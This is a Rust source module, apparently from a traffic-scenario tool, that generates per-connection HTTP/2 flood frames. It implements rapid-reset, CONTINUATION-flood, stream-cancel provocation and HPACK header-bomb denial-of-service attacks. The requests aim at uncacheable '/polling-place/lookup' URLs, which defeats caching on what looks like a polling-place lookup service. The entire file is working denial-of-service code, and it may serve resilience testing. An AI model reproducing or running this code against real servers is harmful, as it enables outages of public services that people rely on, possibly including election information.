//! What one connection of a flood of HTTP/2 frames sends, batch after batch. Pure.

use super::frames::{Block, CANCEL, flag, kind, put};
use crate::scenario::FloodKind;

/// Batches per second.
pub(super) const BATCHES_PER_SECOND: u32 = 10;

/// The field that a header bomb repeats: with the 32 bytes of RFC 7541 section 4.1 it just fits the
/// dynamic table that every server has at first (4,096 bytes).
const BOMB_NAME: &str = "x-bomb";
const BOMB_VALUE_BYTES: usize = 4_000;

/// How a server is made to cancel a request. A connection uses one way: for a server that ends the
/// connection on one of them, another may go on and on.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Provocation {
    /// A window update by zero (RFC 9113 section 6.9).
    WindowByZero,
    /// A window update beyond 2^31 - 1 (section 6.9.1).
    WindowTooLarge,
    /// Data after the end of the request (section 5.1).
    DataAfterEnd,
    /// More data than the request's Content-Length (section 8.1.1).
    DataBeyondLength,
    /// A stream that depends on itself (RFC 7540 section 5.3.1).
    DependsOnItself,
}

impl Provocation {
    pub(super) const ALL: [Self; 5] = [
        Self::WindowByZero,
        Self::WindowTooLarge,
        Self::DataAfterEnd,
        Self::DataBeyondLength,
        Self::DependsOnItself,
    ];
}

/// One connection's part of a flood.
#[derive(Clone, Debug)]
pub(super) struct Barrage {
    kind: FloodKind,
    host: String,
    /// Tells this connection's look-ups and provocation from those of others.
    number: u64,
    next_stream: u32,
    continued: u64,
}

impl Barrage {
    pub(super) fn new(kind: FloodKind, host: &str, number: u64) -> Self {
        Self { kind, host: host.to_owned(), number, next_stream: 1, continued: 0 }
    }

    /// Appends a tenth of a second's frames; returns how many of what the kind counts (requests, or
    /// frames of headers) they are.
    pub(super) fn batch(&mut self, out: &mut Vec<u8>) -> u64 {
        let per_second = self.kind.h2_frames_per_second().unwrap_or(0);
        let count = per_second / BATCHES_PER_SECOND;
        for _ in 0..count {
            match self.kind {
                FloodKind::H2RapidReset => self.ask_and_cancel(out),
                FloodKind::H2Continuation => self.go_on(out),
                FloodKind::H2MadeYouReset => self.provoke(out),
                FloodKind::H2HeaderBomb => self.bomb(out),
                _ => {}
            }
        }
        u64::from(count)
    }

    fn stream(&mut self) -> u32 {
        let stream = self.next_stream;
        self.next_stream = stream.saturating_add(2);
        stream
    }

    /// A look-up that nobody has asked for before: the server can answer it from no cache.
    fn look_up(&self, post: bool) -> Block {
        let target = format!("/polling-place/lookup?address={}+{:x}+Street", self.next_stream, self.number);
        Block::request(post, &self.host, &target)
    }

    fn ask_and_cancel(&mut self, out: &mut Vec<u8>) {
        let block = self.look_up(false);
        let stream = self.stream();
        put(out, kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, stream, block.bytes());
        put(out, kind::RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
    }

    /// The first frame begins a request; those after it add a field each and never the end.
    fn go_on(&mut self, out: &mut Vec<u8>) {
        if self.continued == 0 {
            put(out, kind::HEADERS, flag::END_STREAM, 1, Block::request(false, &self.host, "/").bytes());
        } else {
            let mut block = Block::default();
            block.field(&format!("x-{:08}", self.continued), &"x".repeat(100));
            put(out, kind::CONTINUATION, 0, 1, block.bytes());
        }
        self.continued += 1;
    }

    pub(super) fn provocation(&self) -> Provocation {
        let place = usize::try_from(self.number % Provocation::ALL.len() as u64).unwrap_or(0);
        Provocation::ALL.get(place).copied().unwrap_or(Provocation::WindowByZero)
    }

    fn provoke(&mut self, out: &mut Vec<u8>) {
        let provocation = self.provocation();
        let whole = flag::END_HEADERS | flag::END_STREAM;
        let (post, flags) = match provocation {
            Provocation::DataBeyondLength => (true, flag::END_HEADERS),
            _ => (false, whole),
        };
        let mut block = self.look_up(post);
        if post {
            block.content_length(1);
        }
        let stream = self.stream();
        put(out, kind::HEADERS, flags, stream, block.bytes());
        match provocation {
            Provocation::WindowByZero => put(out, kind::WINDOW_UPDATE, 0, stream, &[0; 4]),
            Provocation::WindowTooLarge => {
                put(out, kind::WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes());
            }
            Provocation::DataAfterEnd | Provocation::DataBeyondLength => {
                put(out, kind::DATA, 0, stream, b"xx");
            }
            Provocation::DependsOnItself => {
                let [a, b, c, d] = stream.to_be_bytes();
                put(out, kind::PRIORITY, 0, stream, &[a, b, c, d, 15]);
            }
        }
    }

    /// The first request makes the server remember a large field; each one after names it some 16,000
    /// times and stays open.
    fn bomb(&mut self, out: &mut Vec<u8>) {
        let mut block = Block::request(false, &self.host, "/");
        let stream = self.stream();
        if stream == 1 {
            block.remembered(BOMB_NAME, &"x".repeat(BOMB_VALUE_BYTES));
            put(out, kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, stream, block.bytes());
        } else {
            block.newest_until_full();
            put(out, kind::HEADERS, flag::END_HEADERS, stream, block.bytes());
        }
    }
}
